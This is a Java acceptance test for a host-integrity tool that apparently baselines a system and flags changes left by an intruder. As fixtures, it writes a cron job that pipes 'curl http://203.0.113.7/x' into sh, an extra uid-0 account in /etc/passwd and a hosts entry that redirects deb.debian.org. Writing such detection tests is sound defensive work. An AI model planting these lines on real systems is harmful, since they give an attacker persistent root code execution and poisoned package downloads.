package io.diffy.acceptance.it;

import static java.nio.charset.StandardCharsets.UTF_8;
import static java.util.stream.Collectors.toSet;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.diffy.cli.command.ExitCode;
import io.diffy.schemas.Finding;
import io.diffy.schemas.Kind;
import io.diffy.schemas.codec.MalformedRecord;
import io.diffy.schemas.json.FindingCodec;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.util.ArrayList;
import java.util.List;
import java.util.Set;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** {@code diffy new baseline} on a clean host, then {@code diffy new analysis} after a visit. */
final class OnDemandTest {
  private static final String CLEAN_CRONTAB =
      """
      17 * * * * root cd / && run-parts --report /etc/cron.hourly
      25 6 * * * root test -x /usr/sbin/logrotate && logrotate
      """;
  private static final String CLEAN_HOSTS = "127.0.0.1 localhost\n";
  private static final String CLEAN_PASSWD =
      """
      root:x:0:0:root:/root:/bin/bash
      www-data:x:33:33::/var/www:/usr/sbin/nologin
      """;

  /** What osqueryi 5 prints with --json; no rows are not an empty array. */
  private static final String TWO_CRON_ROWS =
      """
      [
        {"command":"root cd / && run-parts --report /etc/cron.hourly","day_of_month":"*","day_of_week":"*","event":"","hour":"*","minute":"17","month":"*","path":"/etc/crontab"},
        {"command":"root logrotate","day_of_month":"*","day_of_week":"*","event":"","hour":"6","minute":"25","month":"*","path":"/etc/cron.d/logrotate"}
      ]
      """;

  private static final String ROGUE_CRON_ROW =
      """
      [
        {"command":"root curl -s http://203.0.113.7/x | sh","day_of_month":"*","day_of_week":"*","event":"","hour":"*","minute":"*","month":"*","path":"/etc/cron.d/.sync"},
      """;

  private static final String OSQUERYI =
      """
      #!/bin/sh
      here=$(dirname "$0")
      case "$*" in
        --version) echo "osqueryi version 5.22.1" ;;
        "--json "*"FROM crontab"*) cat "$here/crontab.json" ;;
        "--json "*"FROM kernel_modules"*)
          echo 'Error: no such table: kernel_modules' >&2
          printf '[\\n\\n]\\n'
          exit 1 ;;
        "--json "*) printf '[\\n\\n]\\n' ;;
        *) exit 64 ;;
      esac
      """;

  @TempDir private Path folder;
  private Path root;

  @BeforeEach
  void aCleanHost() throws IOException {
    root = folder.resolve("root");
    write("etc/hostname", "web-1\n");
    write("etc/machine-id", "0123456789abcdef0123456789abcdef\n");
    write("etc/group", "root:x:0:\nwww-data:x:33:\n");
    write("etc/passwd", CLEAN_PASSWD);
    write("etc/hosts", CLEAN_HOSTS);
    write("etc/crontab", CLEAN_CRONTAB);
    Files.createDirectories(root.resolve("etc/cron.d"));
  }

  @Test
  void namesExactlyWhatAVisitorLeftAndNothingOnceItIsUndone() throws Exception {
    try (DiffyProcess up =
        DiffyProcess.start(folder, "up", "--port", "0", "--partitions", "2", "--data", data())) {
      up.awaitLine("Ready.");
      Cli baseline = onRoot("baseline");
      assertEquals(ExitCode.NOTHING_FOUND, baseline.exitCode(), baseline::err);
      assertTrue(baseline.err().contains("built-in Linux tables under " + root), baseline.err());

      write("etc/cron.d/sync", "* * * * * root curl -s http://203.0.113.7/x | sh\n");
      write("etc/passwd", CLEAN_PASSWD + "sysd:x:0:0::/tmp:/bin/bash\n");
      write("etc/hosts", CLEAN_HOSTS + "203.0.113.7 deb.debian.org\n");
      Cli visited = onRoot("analysis", "--format", "ndjson");
      assertEquals(ExitCode.FINDINGS, visited.exitCode(), visited::err);
      List<Finding> found = deviations(visited);
      assertEquals(4, found.size(), visited::out);
      assertEquals(
          Set.of(
              "crontab unexpected",
              "cron_files unexpected",
              "users unexpected",
              "etc_hosts unexpected"),
          named(found));
      assertNoBaselineIsTakenOfASuspect();

      Files.delete(root.resolve("etc/cron.d/sync"));
      write("etc/passwd", CLEAN_PASSWD);
      write("etc/hosts", CLEAN_HOSTS);
      Cli undone = onRoot("analysis");
      assertEquals(ExitCode.NOTHING_FOUND, undone.exitCode(), undone::out);
      assertTrue(undone.out().contains("Nothing found."), undone.out());

      write("etc/crontab", CLEAN_CRONTAB.lines().findFirst().orElseThrow() + "\n");
      Cli removed = onRoot("analysis", "--format", "ndjson");
      assertEquals(ExitCode.FINDINGS, removed.exitCode(), removed::err);
      assertEquals(2, deviations(removed).size(), removed::out);
      assertEquals(Set.of("crontab missing", "cron_files changed"), named(deviations(removed)));
    }
  }

  private void assertNoBaselineIsTakenOfASuspect() {
    Cli poisoned = onRoot("baseline");
    assertEquals(ExitCode.FAILURE, poisoned.exitCode(), poisoned::out);
    assertTrue(
        poisoned.err().contains("no baseline of local: 4 findings are open against"),
        poisoned::err);
    assertTrue(poisoned.err().contains("crontab unexpected on"), poisoned::err);
  }

  @Test
  void aBaselineIsTakenOfASuspectOnlyForAReason() throws Exception {
    try (DiffyProcess up =
        DiffyProcess.start(folder, "up", "--port", "0", "--partitions", "2", "--data", data())) {
      up.awaitLine("Ready.");
      assertEquals(ExitCode.NOTHING_FOUND, onRoot("baseline").exitCode());
      write("etc/cron.d/backup", "0 3 * * * root /usr/local/bin/backup\n");
      assertEquals(ExitCode.FINDINGS, onRoot("analysis").exitCode());

      assertEquals(ExitCode.FAILURE, onRoot("baseline").exitCode());
      Cli told = onRoot("baseline", "--despite-findings", "the new backup job");
      assertEquals(ExitCode.NOTHING_FOUND, told.exitCode(), told::err);
      assertTrue(told.out().contains("despite 2 open findings: the new backup job"), told::out);
      assertEquals(ExitCode.NOTHING_FOUND, onRoot("analysis").exitCode());
    }
  }

  @Test
  void betweenTwoCallsTheFolderKeepsWhatWasFound() throws Exception {
    assertEquals(ExitCode.NOTHING_FOUND, onRoot("baseline").exitCode());
    write("etc/cron.d/sync", "* * * * * root curl -s http://203.0.113.7/x | sh\n");
    Cli visited = onRoot("analysis", "--format", "ndjson");
    assertEquals(ExitCode.FINDINGS, visited.exitCode(), visited::err);
    Finding first = ofCrontab(visited);

    // The broker that was begun meanwhile is stopped with the command, and the folder is free.
    Cli nowhere = Cli.diffy("new", "analysis", "local", "--data", data(), "--root", data() + "-no");
    assertEquals(ExitCode.FAILURE, nowhere.exitCode(), nowhere::out);
    assertTrue(nowhere.err().contains("there is no folder"), nowhere::err);

    write("etc/cron.d/sync", "* * * * * root curl -s http://203.0.113.7/y | sh\n");
    Cli again = onRoot("analysis", "--format", "ndjson");
    assertEquals(ExitCode.FINDINGS, again.exitCode(), again::err);
    Cli shown = Cli.diffy("findings", "--data", data(), "--format", "ndjson");
    assertEquals(deviations(again), deviations(shown));
    Finding later = ofCrontab(again);
    assertEquals(Set.of("crontab unexpected", "cron_files unexpected"), named(deviations(again)));
    assertEquals(Finding.Activity.CREATE, later.activity());
    assertTrue(!later.uid().equals(first.uid()), again::out);

    write("etc/cron.d/sync", "* * * * * root curl -s http://203.0.113.7/x | sh\n");
    Finding back = ofCrontab(onRoot("analysis", "--format", "ndjson"));
    assertEquals(first.uid(), back.uid());
    assertTrue(back.sequence() > first.sequence(), () -> "sequence " + back.sequence());
  }

  @Test
  void aFolderThatAShortCommandMadeHasOnePartitionOfEachTopicUnlessTold() {
    assertEquals(ExitCode.NOTHING_FOUND, onRoot("baseline").exitCode());
    assertTrue(Files.isDirectory(folder.resolve("data/broker/diffy.observations-0")));
    assertTrue(Files.notExists(folder.resolve("data/broker/diffy.observations-1")));

    String told = folder.resolve("told").toString();
    Cli findings = Cli.diffy("findings", "--data", told, "--partitions", "3");
    assertEquals(ExitCode.FAILURE, findings.exitCode(), "nothing was judged: " + findings.err());
    assertTrue(Files.isDirectory(folder.resolve("told/broker/diffy.observations-2")));
  }

  @Test
  void asksOsqueryiWhereThereIsOneAndSaysSo() throws Exception {
    Path osqueryi = folder.resolve("osqueryi");
    Path answer = folder.resolve("crontab.json");
    Files.writeString(osqueryi, OSQUERYI);
    Files.setPosixFilePermissions(osqueryi, PosixFilePermissions.fromString("rwx------"));
    Files.writeString(answer, TWO_CRON_ROWS);

    Cli baseline = onOsqueryi("baseline", osqueryi);
    assertEquals(ExitCode.NOTHING_FOUND, baseline.exitCode(), baseline::err);
    assertTrue(baseline.err().contains("Asking osqueryi 5.22.1 at " + osqueryi), baseline.err());
    assertTrue(baseline.out().contains("Not in it: kernel_modules"), baseline.out());
    assertTrue(baseline.out().contains("no such table: kernel_modules"), baseline.out());

    Files.writeString(answer, TWO_CRON_ROWS.replaceFirst("\\[\n", ROGUE_CRON_ROW));
    Cli visited = onOsqueryi("analysis", osqueryi);
    assertEquals(ExitCode.FINDINGS, visited.exitCode(), visited::err);
    assertTrue(visited.err().contains("Asking osqueryi 5.22.1 at " + osqueryi), visited.err());
    assertTrue(visited.out().contains("not answered: kernel_modules"), visited.out());
    assertTrue(visited.out().contains("203.0.113.7"), visited.out());
    assertTrue(visited.out().contains("/etc/cron.d/.sync"), visited.out());
  }

  @Test
  void anOsqueryiThatIsNotThereIsSaid() {
    Path nowhere = folder.resolve("nowhere");
    Cli missing = onOsqueryi("baseline", nowhere);
    assertEquals(ExitCode.FAILURE, missing.exitCode());
    assertTrue(missing.err().contains(nowhere + " is not a program"), missing.err());
    Cli both =
        Cli.diffy(
            "new",
            "baseline",
            "local",
            "--osqueryi",
            nowhere.toString(),
            "--root",
            root.toString());
    assertEquals(ExitCode.FAILURE, both.exitCode());
    assertTrue(both.err().contains("leave out --osqueryi or --root"), both.err());
  }

  private Cli onRoot(String what, String... more) {
    List<String> arguments =
        new ArrayList<>(List.of("new", what, "local", "--data", data(), "--root", root.toString()));
    arguments.addAll(List.of(more));
    return Cli.diffy(arguments.toArray(String[]::new));
  }

  private Cli onOsqueryi(String what, Path osqueryi) {
    return Cli.diffy("new", what, "local", "--data", data(), "--osqueryi", osqueryi.toString());
  }

  /** What the fake root does not hold can't be answered; those findings are of another kind. */
  private static List<Finding> deviations(Cli analysis) throws MalformedRecord {
    List<Finding> findings = new ArrayList<>();
    for (String line : analysis.lines()) {
      Finding finding = new FindingCodec().decode(line.getBytes(UTF_8));
      if (finding.kind() != Kind.COVERAGE) {
        findings.add(finding);
      }
    }
    return findings;
  }

  private static Finding ofCrontab(Cli analysis) throws MalformedRecord {
    return deviations(analysis).stream()
        .filter(finding -> finding.query().equals("crontab"))
        .findFirst()
        .orElseThrow();
  }

  private static Set<String> named(List<Finding> findings) {
    return findings.stream().map(f -> f.query() + " " + f.kind().word()).collect(toSet());
  }

  private String data() {
    return folder.resolve("data").toString();
  }

  private void write(String file, String text) throws IOException {
    Path path = root.resolve(file);
    Files.createDirectories(path.getParent());
    Files.writeString(path, text);
  }
}
